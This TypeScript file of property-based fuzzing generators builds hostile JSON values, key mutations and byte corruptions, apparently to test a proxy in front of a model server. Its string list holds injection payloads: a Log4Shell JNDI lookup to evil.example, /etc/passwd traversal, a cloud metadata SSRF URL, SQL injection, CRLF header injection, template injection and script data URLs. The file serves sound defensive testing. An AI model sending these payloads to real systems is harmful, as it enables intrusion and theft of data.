import * as fc from "fast-check";
import { isJsonObject } from "../../../core/json.ts";

/** What JSON's writer would not write stands between these marks, as it is to be sent. */
const raw = (text: string): string => `\u00ab${text}\u00bb`;
const marked = /"\u00ab([^\u00bb]*)\u00bb"/g;

const nested = (levels: number, open = "[", close = "]"): string =>
  raw(open.repeat(levels) + close.repeat(levels));

const numbers = [
  0,
  -1,
  1,
  1.5,
  -1e-9,
  65,
  1e6,
  2 ** 31,
  2 ** 53,
  Number.MAX_SAFE_INTEGER,
  -Number.MAX_SAFE_INTEGER,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  ...["1e999", "-1e999", "-0", "1E400", "0.1e1", "9".repeat(400)].map(raw),
];
const noNumbers = ["NaN", "Infinity", "-Infinity", "01", "0x10", "1_000", "undefined", ".5"];
const texts = [
  "",
  " ",
  "NaN",
  "-1",
  "1e999",
  "null",
  "true",
  "__proto__",
  "constructor",
  "\u0000",
  "\ud800",
  "\udc00x",
  "\u{1f600}",
  "e\u0301",
  "\u202ereversed",
  "\r\nx-evil: 1",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",

  "../../../../etc/passwd",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data/",
  "' OR 1=1 --",
  "data:image/png;base64,AAAA",
  "data:image/png;base64,",
  "data:text/html,<script>",
  "url",
  "b64_json",
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...texts, ...noNumbers, "a".repeat(300)),
  fc.string({ maxLength: 12 }),
);

/** Values that are the wrong thing in nearly every place. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], [{}], { type: "text" }, [1, "a"]),
  fc.constantFrom<unknown>(...numbers),
  fc.constantFrom<unknown>(...texts, "a".repeat(201), "\u{1f600}".repeat(500)),
  fc.constantFrom(...noNumbers).map(raw),
  fc.constantFrom(60, 64, 65, 3000).map((levels) => nested(levels)),
  fc.constant(nested(70, '{"a":', "}").replace("{}", "{1}")),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Names that mean something to JavaScript, to billing, or to the model server. */
const hostileKey = fc.oneof(
  fc.constantFrom(
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "toJSON",
    "then",
    "",
  ),
  fc.constantFrom(
    "usage",
    "cost",
    "price",
    "hold",
    "n",
    "best_of",
    "max_tokens",
    "max_completion_tokens",
    "stream",
  ),
  fc.constantFrom(
    "stream_options",
    "min_tokens",
    "model",
    "messages",
    "prompt",
    "input",
    "customer",
    "error",
    "tools",
  ),
  fc.string({ maxLength: 6 }),
);

export type Mutation = {
  readonly at: number;
  readonly kind: "replace" | "remove" | "add" | "wrap" | "repeat";
  readonly key: string;
  readonly value: unknown;
};

export const mutation: fc.Arbitrary<Mutation> = fc.record({
  at: fc.nat(10_000),
  kind: fc.constantFrom("replace", "replace", "replace", "add", "add", "remove", "wrap", "repeat"),
  key: hostileKey,
  value: hostileValue,
});

type Place = { readonly holder: object; readonly key: string };

const placesIn = (holder: object): readonly Place[] =>
  Object.entries(holder).flatMap(([key, value]: [string, unknown]) => [
    { holder, key },
    ...(typeof value === "object" && value !== null ? placesIn(value) : []),
  ]);

/** As a member of its own, whatever its name: assigning to `__proto__` would make none. */
const put = (holder: object, key: string, value: unknown): void =>
  void Object.defineProperty(holder, key, { value, enumerable: true, writable: true, configurable: true });

const change = (root: object, { at, kind, key, value: said }: Mutation): void => {
  // A copy: what one mutation has put somewhere, the next one may change.
  const value: unknown = typeof said === "object" ? structuredClone(said) : said;
  const places = placesIn(root);
  const place = places[at % Math.max(1, places.length)];
  if (!place) return put(root, key, value);
  const there: unknown = Reflect.get(place.holder, place.key);
  switch (kind) {
    case "replace":
      return put(place.holder, place.key, value);
    case "remove":
      return void Reflect.deleteProperty(place.holder, place.key);
    case "add":
      return put(isJsonObject(there) && at % 2 === 0 ? there : root, key, value);
    case "wrap":
      return put(place.holder, place.key, [there]);
    case "repeat":
      return put(place.holder, place.key, Array(at % 150).fill(there));
  }
};

/** `valid` as JSON text after all of `mutations`. */
export const mutatedJson = (valid: object, mutations: readonly Mutation[]): string => {
  if (mutations.length === 0) return written(valid);
  const root = structuredClone(valid);
  for (const mutation of mutations) change(root, mutation);
  return written(root);
};

const written = (value: object): string =>
  JSON.stringify(value).replaceAll(marked, (_, text: string) => text.replaceAll('\\"', '"'));

export type Corruption = {
  readonly kind: "cut" | "bytes" | "twice" | "utf-16" | "bom" | "after" | "none";
  readonly at: number;
};

export const corruption: fc.Arbitrary<Corruption> = fc.record({
  kind: fc.oneof(
    { weight: 9, arbitrary: fc.constant("none" as const) },
    { weight: 1, arbitrary: fc.constantFrom("cut", "bytes", "twice", "utf-16", "bom", "after") },
  ),
  at: fc.nat(10_000),
});

/** Text as bytes that are not quite it. */
export const corrupted = (text: string, { kind, at }: Corruption): Buffer => {
  const bytes = Buffer.from(text);
  const place = at % (bytes.length + 1);
  switch (kind) {
    case "none":
      return bytes;
    case "cut":
      return bytes.subarray(0, place);
    case "bytes":
      return Buffer.concat([bytes.subarray(0, place), Buffer.of(0xc3, 0x28, 0xff, 0), bytes.subarray(place)]);
    case "twice":
      // Every member of the root is there twice; the last counts.
      return Buffer.from(`${text.slice(0, -1)},${text.slice(1)}`);
    case "utf-16":
      return Buffer.from(text, "utf16le");
    case "bom":
      return Buffer.from(`\ufeff${text}`);
    case "after":
      return Buffer.from(`${text}${text}`);
  }
};
